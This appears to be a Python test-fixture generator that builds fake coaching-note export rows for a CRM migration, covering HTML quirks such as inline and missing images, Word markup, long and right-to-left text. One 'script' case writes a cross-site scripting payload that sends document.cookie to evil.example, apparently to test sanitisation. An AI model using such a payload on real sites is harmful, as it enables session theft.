"""Notes as coaches write them: formatted, pasted out of Word, with pictures that are inside, beside, or long gone."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from random import Random

from sample_exports.profi_calendar import CALLED_OFF, Session
from sample_exports.profi_people import Client, coach_email
from sample_exports.profi_rows import FRESHSALES, MAIN_ENDS, PIPEDRIVE, all_feeds, chance, in_both
from sample_exports.profi_sessions import Guests
from sample_exports.promio_rows import Row, Verdict

COLUMNS = ("note_id", "client_email", "session_id", "author_email", "created_at", "body_html", "private")
KINDS = (
    "plain",
    "image_inside",
    "image_beside",
    "image_expired",
    "image_missing",
    "script",
    "word",
    "long",
    "line_breaks",
    "right_to_left",
)
SENTENCES = (
    "We looked at what last week asked of her.", "He wants to speak to his manager <b>before</b> the review.",
    "Next step: three short breaks a day.", "Homework is done &amp; it helped.", "The wheel of life moved from 4 to 6.",
    "She is proud of the workshop.", "Open question: move to Lyon or stay?", "We agreed on <i>one</i> experiment.",
)  # fmt: skip
WORD = (
    '<p class="MsoNormal" style="mso-margin-top-alt:auto"><span lang="DE" style="font-size:11.0pt;font-family:Calibri">'
    "{}<o:p></o:p></span></p><!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->"
)
IMAGES = "files/notes"


@dataclass(frozen=True)
class Picture:
    """A picture that stands beside the export, or that a note says should."""

    path: str
    content: bytes


def png(rng: Random, size: int = 8) -> bytes:
    """A small picture of one colour, valid and the same for the same draw."""
    pixel = bytes(rng.randrange(256) for _ in range(3))
    rows = b"".join(b"\0" + pixel * size for _ in range(size))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


class NoteWriter:
    """Writes notes; the pictures beside them are gathered on the way."""

    def __init__(self, rng: Random, guests: Guests, clients: Sequence[Client], sessions: Sequence[Session]) -> None:
        self.rng, self.guests = rng, guests
        self.clients = [client for client in clients if client.kind in ("plain", "couple", "deleted")]
        self.sessions = [session for session in sessions if session.status == "completed" or session.kind == CALLED_OFF]
        self.pictures: list[Picture] = []

    def rows(self, count: int, *, first: int = 1, since: datetime | None = None) -> list[Row]:
        """So many notes, of each kind at least one where there are enough; later ones begin with plain ones."""
        turn = 0 if since is None else 2 * len(KINDS)
        return [
            self._row(first + n, KINDS[place % 40] if place % 40 < len(KINDS) else "plain", place, since)
            for n, place in enumerate(range(turn, turn + count))
        ]

    def _row(self, number: int, kind: str, n: int, since: datetime | None) -> Row:
        rng, note = self.rng, f"NT-{number:05d}"
        session = rng.choice(self.sessions) if chance(rng, 0.6) else None
        client = (
            session.seats[0].client if session and not session.group else rng.choice(self.clients) if session is None else None
        )
        address, dirt = (client.email.strip() if client else ""), ([] if kind == "plain" else [("body_html", kind)])
        said = address
        if session and client and n % 9 == 3:
            said = ""
            dirt.append(("client_email", "client_by_session"))
        private = "true" if n % 11 == 6 else "" if n % 3 else "false"
        if private == "true":
            dirt.append(("private", "private_note"))
        at = (since or (session.start if session else MAIN_ENDS - timedelta(days=rng.randint(1, 700)))) + timedelta(
            minutes=rng.randint(5, 90)
        )
        cells = {
            "note_id": note,
            "client_email": said,
            "session_id": session.id if session else "",
            "author_email": coach_email(session.coach if session else client.coaches[0] if client else "Nora Lindqvist"),
            "created_at": f"{at:%Y-%m-%dT%H:%M:%S}+01:00",
            "body_html": self._body(note, kind, dirt),
            "private": private,
        }
        return self._judged(note, cells, address, private == "true", tuple(dirt))

    def _judged(self, note: str, cells: dict[str, str], address: str, private: bool, dirt: tuple[tuple[str, str], ...]) -> Row:
        record = self.guests.of(address) if address else ""
        if private:
            verdict = Verdict("excluded", "private_note")
        elif not record:
            verdict = Verdict("held", self.guests.missing(address) if address else "parent_missing")
        else:
            verdict = Verdict("loaded", "", f"notes/{note}")
        ends = {**in_both("notes", verdict), **all_feeds(("private_notes",), Verdict("excluded", "other_answer"))}
        links = {f"{PIPEDRIVE}/notes": {"person": record}, f"{FRESHSALES}/notes": {"contact": record}}
        return Row(note, cells, ends, links if verdict.record else {}, dirt)

    def _body(self, note: str, kind: str, dirt: list[tuple[str, str]]) -> str:
        rng = self.rng
        text = " ".join(rng.choice(SENTENCES) for _ in range(rng.randint(2, 4)))
        match kind:
            case "image_inside":
                inside = base64.b64encode(png(rng)).decode()
                return f'<p>{text}</p><p><img alt="wheel" src="data:image/png;base64,{inside}"></p>'
            case "image_beside":
                path = f"{IMAGES}/{note}/whiteboard.png"
                self.pictures.append(Picture(path, png(rng, 16)))
                return f'<h3>Whiteboard</h3><img src="{path}"><p>{text}</p>'
            case "image_missing":
                return f'<p>{text}<img src="{IMAGES}/{note}/sketch.png"></p>'
            case "image_expired":
                link = f"https://cdn.profi.example/u/{note}.jpg?Expires=1719792000&amp;Signature={rng.randrange(16**12):012x}"
                return f'<p>{text}</p><img src="{link}">'
            case "script":
                return f"<p onclick=\"steal()\">{text}</p><script>document.location='https://evil.example/?c='+document.cookie</script>"
            case "word":
                return WORD.format(text)
            case "long":
                return "".join(f"<p>{rng.choice(SENTENCES)} {n}</p>" for n in range(1300))
            case "line_breaks":
                return (
                    "<ul>\n" + "\n".join(f"<li>{line}</li>" for line in text.split(". ")) + '\n</ul>\n<p>He said: "later".</p>'
                )
            case "right_to_left":
                return f'<p dir="rtl">שלום &#x1F331;</p><p>{text}</p>'
        return f"<p>{text}</p>" if chance(rng, 0.7) else text
